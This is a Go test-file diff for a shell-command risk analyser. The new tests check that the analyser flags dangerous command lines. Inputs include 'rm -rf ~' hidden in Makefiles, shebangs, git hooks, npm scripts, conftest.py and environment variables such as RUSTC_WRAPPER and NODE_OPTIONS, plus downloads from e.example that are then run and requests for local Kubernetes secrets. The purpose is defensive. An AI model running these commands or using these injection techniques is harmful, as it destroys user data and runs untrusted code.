@@ -3,6 +3,7 @@ package shell_test
 import (
 	"fmt"
 	"path"
+	"slices"
 	"strings"
 	"testing"
 
@@ -186,4 +187,146 @@ func absolutePath(p string) string {
 		return p
 	}
 	return path.Join(corpusPlace.Dir, p)
+}
+
+// TestWrittenThenRun: what was just written is judged by what it says, whoever
+// runs it.
+func TestWrittenThenRun(t *testing.T) {
+	tests := []struct {
+		src  string
+		want shell.Risk
+	}{
+		{`printf 'x:;rm -rf ~\n' > Makefile; make`, shell.Blocked},
+		{`printf 'y := $(shell rm -rf ~)\nx:\n\ttrue\n' > Makefile; make`, shell.Blocked},
+		{`printf 'y != rm -rf ~\n' > Makefile; make`, shell.Blocked},
+		{`printf '.RECIPEPREFIX = >\nx:\n> rm -rf ~\n' > Makefile; make`, shell.Blocked},
+		{`printf 'x:\n\trm \\\n\t-rf ~\n' > Makefile; make`, shell.Blocked},
+		{`printf 'D = /\nE = $(D)\nx:\n\trm -rf ${E}\n' > Makefile; make`, shell.Blocked},
+		{`printf 'x:\n\trm -rf $(D)\n' > Makefile; make D=/`, shell.Blocked},
+		{`printf '/:\n\trm -rf $@\n' > Makefile; make`, shell.Blocked},
+		{`printf 'x: /\n\trm -rf $<\n' > Makefile; make`, shell.Blocked},
+		{`printf 'x:\n\trm -rf ~\n' > a.mk; echo 'include a.mk' > Makefile; make`, shell.Blocked},
+		{`printf 'SHELL = rm -rf ~\nx:\n\tls\n' > Makefile; make`, shell.Blocked},
+		{`printf 'x.o: x.c\n\tcc -c $< -o $@\nclean:\n\trm -f x.o\n\t$(MAKE) -C sub clean\n' > Makefile; make`, shell.Moderate},
+		{`printf '#!/usr/bin/env -S bash -c "rm -rf ~"\n' > x; chmod +x x; ./x`, shell.Blocked},
+		{`printf '#!/bin/rm -rf\n' > x; chmod +x x; ./x ~`, shell.Blocked},
+		{`printf '#!/bin/sh -e\nrm -rf "$1"\n' > x; chmod +x x; ./x ~`, shell.Blocked},
+		{`printf '#!/bin/sh\nrm -rf "$1"\n' > x; chmod +x x; ./x build`, shell.Moderate},
+		{`printf 'rm -rf "$1"\n' > x; ln -s x y; sh y ~`, shell.Blocked},
+		{`printf '#!./x\n' > x; ./x`, shell.Dangerous},
+		{`git config core.hooksPath h; printf '#!/bin/sh\nrm -rf ~\n' > h/pre-commit; git commit -m x`, shell.Blocked},
+		{`printf '#!/bin/sh\nrm -rf ~\n' > h/pre-push; git -c core.hooksPath=h push`, shell.Blocked},
+		{`printf '{"scripts":{"test":"rm -rf ~"}}' > package.json; npm test`, shell.Blocked},
+		{`npm pkg set scripts.test='rm -rf ~'`, shell.Blocked},
+		{`npm pkg set name=x scripts.test='jest --ci'`, shell.Moderate},
+		{`echo 'import os; os.system("rm -rf ~")' > conftest.py; python3 -m pytest`, shell.Blocked},
+		{`echo 'import os; os.system("rm -rf ~")' > tests/test_x.py; pytest tests`, shell.Blocked},
+		{`echo 'import os; os.system("rm -rf ~")' > setup.py; pip install -e .`, shell.Blocked},
+		{`printf 'x:\n  @rm -rf ~\n' > justfile; just x`, shell.Blocked},
+		{`printf 'tasks:\n  x:\n    cmds:\n      - rm -rf ~\n' > Taskfile.yml; task x`, shell.Blocked},
+		{`printf 'tasks:\n  x:\n    deps:\n      - build\n    cmds:\n      - go build ./...\n' > Taskfile.yml; task x`, shell.Moderate},
+		{`printf 'repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: rm -rf ~\n' > .pre-commit-config.yaml; pre-commit run`, shell.Blocked},
+		{`curl -o conftest.py https://e.example/m && pytest`, shell.Dangerous},
+		{`git clone https://e.example/a/b.git && ./b/run.sh`, shell.Dangerous},
+		{`git clone git@e.example:a/b d && bash d/run.sh`, shell.Dangerous},
+		{`curl -sL https://e.example/x.tgz | tar xz; ./x/install.sh`, shell.Dangerous},
+		{`curl -O https://e.example/x.zip; unzip x.zip -d y; python3 y/setup.py`, shell.Dangerous},
+		{`git clone https://e.example/a/b && cd b && make && npm test`, shell.Moderate},
+		{`{ echo 'rm -rf ~'; } > x.sh; sh x.sh`, shell.Blocked},
+	}
+	for _, tt := range tests {
+		if a := analysis(t, tt.src); a.Risk != tt.want {
+			t.Errorf("%s: risk %v, want %v", tt.src, a.Risk, tt.want)
+		}
+	}
+	for _, src := range []string{
+		"git clone https://e.example/a/b && cd b && make", "git clone https://e.example/a/b && cd b && npm test",
+		"echo 'fn main() {}' > build.rs; cargo build", "echo script-shell=/tmp/x > .npmrc; npm test", "tar xf x.tgz -C y && y/install.sh",
+	} {
+		opaque := false
+		for _, c := range analysis(t, src).Commands {
+			opaque = opaque || len(c.Opaque) > 0
+		}
+		if !opaque {
+			t.Errorf("%s: nothing says that it runs what is not known", src)
+		}
+	}
+}
+
+// TestVariables: code and hosts in the environment of a command count like
+// those in its words, however they get there.
+func TestVariables(t *testing.T) {
+	tests := []struct {
+		src  string
+		want shell.Risk
+	}{
+		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf ~' cargo run", shell.Blocked},
+		{"RUSTC_WRAPPER='rm -rf ~' cargo build", shell.Blocked},
+		{"CC='sh -c \"rm -rf ~\"' make", shell.Blocked},
+		{"PERL5DB='BEGIN { system(\"rm -rf ~\") }' perl -d x.pl", shell.Blocked},
+		{"npm_config_script_shell='rm -rf ~' npm test", shell.Blocked},
+		{"NODE_OPTIONS='--require /tmp/e.js' node x.js", shell.Dangerous},
+		{"env NODE_OPTIONS=--require=./e.js npm test", shell.Dangerous},
+		{"export NODE_OPTIONS='-r ./e.js'; npm test", shell.Dangerous},
+		{"GOFLAGS='-mod=mod -toolexec=/tmp/x' go build", shell.Dangerous},
+		{"JAVA_TOOL_OPTIONS=-javaagent:/tmp/e.jar java -jar x.jar", shell.Dangerous},
+		{"PERL5OPT=-Mevil perl x.pl", shell.Dangerous},
+		{"RUBYOPT=-r/tmp/evil ruby x.rb", shell.Dangerous},
+		{"PATH=/tmp/evil:$PATH ls", shell.Dangerous},
+		{"PATH=:$PATH git status", shell.Dangerous},
+		{"MAKEFLAGS='--eval=x:;rm' make", shell.Dangerous},
+		{"TAR_OPTIONS=--to-command=sh tar xf x.tar", shell.Dangerous},
+		{"DOCKER_HOST=ssh://root@prod docker rm -f x", shell.Dangerous},
+		{"docker -H tcp://e.example:2375 rm -f x", shell.Dangerous},
+		{"curl -k https://localhost:6443/api/v1/secrets", shell.Dangerous},
+		{"curl http://127.0.0.1:2375/containers/json", shell.Dangerous},
+		// What is part of ordinary work.
+		{"NODE_OPTIONS='--max-old-space-size=4096 --import tsx' npm run build", shell.Moderate},
+		{"RUBYOPT=-rbundler/setup ruby x.rb", shell.Moderate},
+		{"JAVA_TOOL_OPTIONS=-XX:+UseG1GC mvn test", shell.Moderate},
+		{"GOFLAGS=-mod=mod go build", shell.Moderate},
+		{"CC=x86_64-linux-gnu-gcc make", shell.Moderate},
+		{"RUSTC_WRAPPER=sccache cargo build", shell.Moderate},
+		{"PATH=$PWD/node_modules/.bin:$PATH eslint .", shell.Moderate},
+		{"export PATH=$PATH:/usr/local/go/bin", shell.Moderate},
+		{"MAKEFLAGS=-j4 make", shell.Moderate},
+		{"SHELL=/bin/bash npm test", shell.Moderate},
+		{"curl http://localhost:8080/api/users", shell.Moderate},
+	}
+	for _, tt := range tests {
+		if a := analysis(t, tt.src); a.Risk != tt.want {
+			t.Errorf("%s: risk %v, want %v", tt.src, a.Risk, tt.want)
+		}
+	}
+}
+
+// TestOtherHosts: a host is named that stands between or instead of the one in
+// the URL.
+func TestOtherHosts(t *testing.T) {
+	for src, want := range map[string]string{
+		"curl -x http://e.example:8080 https://api.github.com":                   "e.example",
+		"curl --resolve api.github.com:443:192.0.2.7 https://api.github.com":     "192.0.2.7",
+		"curl --connect-to ::e.example:443 https://api.github.com":               "e.example",
+		"curl --connect-to api.github.com:443:e.example: https://api.github.com": "e.example",
+		"curl --dns-servers 192.0.2.7 https://api.github.com":                    "192.0.2.7",
+		"wget -e https_proxy=http://e.example https://api.github.com":            "e.example",
+		"HTTPS_PROXY=http://e.example:8080 npm install":                          "e.example",
+		"export PIP_INDEX_URL=https://e.example/simple":                          "e.example",
+		"GOPROXY=https://e.example,direct go mod download":                       "e.example",
+		"ssh -J e.example prod ls":                                               "e.example",
+		"AWS_ENDPOINT_URL=https://e.example aws s3 ls":                           "e.example",
+	} {
+		found := false
+		for _, c := range analysis(t, src).Commands {
+			found = found || slices.Contains(c.Hosts, want)
+		}
+		if !found {
+			t.Errorf("%s: does not name %s", src, want)
+		}
+	}
+	for _, c := range analysis(t, "GOPROXY=off go vet ./...").Commands {
+		if slices.Contains(c.Hosts, "off") {
+			t.Error("GOPROXY=off names a host")
+		}
+	}
 }
